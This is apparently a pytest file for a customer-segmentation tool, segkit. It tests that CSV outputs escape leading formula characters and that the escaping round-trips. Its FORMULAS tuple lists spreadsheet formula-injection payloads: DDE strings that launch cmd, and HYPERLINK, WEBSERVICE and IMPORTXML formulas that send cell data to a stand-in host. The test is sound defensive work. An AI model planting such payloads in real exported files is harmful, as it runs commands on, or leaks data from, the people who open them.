"""No formula runs in a spreadsheet that opens what segkit wrote, and every text comes back as it was given."""

import csv
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import example, given
from hypothesis import strategies as st

from segkit.cli import main
from segkit.data.io import PLAIN_NUMBER, escape_formula, read_customer_csv, unescape_formula
from segkit.data.runs import load_run

START = ("=", "+", "-", "@", "\t", "\r", "\n")
FORMULAS = (
    '=HYPERLINK("https://192.0.2.1/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+9)*WEBSERVICE("https://192.0.2.1")',
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    '=1+1";=1+1',
    '=IMPORTXML(CONCAT("https://192.0.2.1/?",A1),"//a")',
)


@given(value=st.text(st.sampled_from("'=+-@\t\r\n0159.,ab "), max_size=8))
@example(value="''=1")
@example(value="'-5")
def test_a_text_is_shown_and_comes_back_as_it_was(value: str) -> None:
    shown = escape_formula(value)
    assert not shown.startswith(START) or PLAIN_NUMBER.fullmatch(shown)
    assert unescape_formula(shown) == value or value == shown


@pytest.mark.slow
def test_no_csv_of_a_pilot_or_an_export_begins_a_formula(tmp_path: Path) -> None:
    ids = {f"C{n:06d}": f"{FORMULAS[n % len(FORMULAS)]}{n}" for n in range(800)}
    CliRunner().invoke(main, ["synth", "--customers", "800", "--out", str(tmp_path / "company")])
    events = pd.read_parquet(tmp_path / "company" / "events.parquet")
    events["customer"] = events["customer"].replace(ids)
    events.to_parquet(tmp_path / "company" / "events.parquet", index=False)
    run, source = tmp_path / "run", tmp_path / "company" / "source.yaml"
    result = CliRunner().invoke(main, ["run", "--source", str(source), "--out", str(run), "--steps", "01-03"])
    assert result.exit_code == 0, result.stderr
    large = load_run(run).table("segments").nlargest(1, "customers")["segment"].iloc[0]
    for command in (
        ["pilot", str(run), "--segment", large, "--out", str(tmp_path / "pilot")],
        ["export", str(run), "--to", "csv", "--out", str(tmp_path / "out")],
        ["place", str(run), str(source), "--out", str(tmp_path / "placed.csv")],
    ):
        result = CliRunner().invoke(main, command)
        assert result.exit_code == 0, result.stderr
    files = list(tmp_path.glob("pilot/*.csv")) + list(tmp_path.glob("out/*.csv")) + [tmp_path / "placed.csv"]
    assert len(files) >= 5
    for file in files:
        with file.open(encoding="utf-8", newline="") as stream:
            cells = [cell for row in csv.reader(stream) for cell in row]
        assert not [c for c in cells if c.startswith(START) and not PLAIN_NUMBER.fullmatch(c)], file.name
    drawn = set(pd.read_parquet(tmp_path / "pilot" / "units.parquet")["customer_id"])
    files = [tmp_path / "pilot" / f"{arm}.csv" for arm in ("treatment", "control")]
    assert {customer_id for file in files for customer_id in read_customer_csv(file)["customer_id"]} == drawn
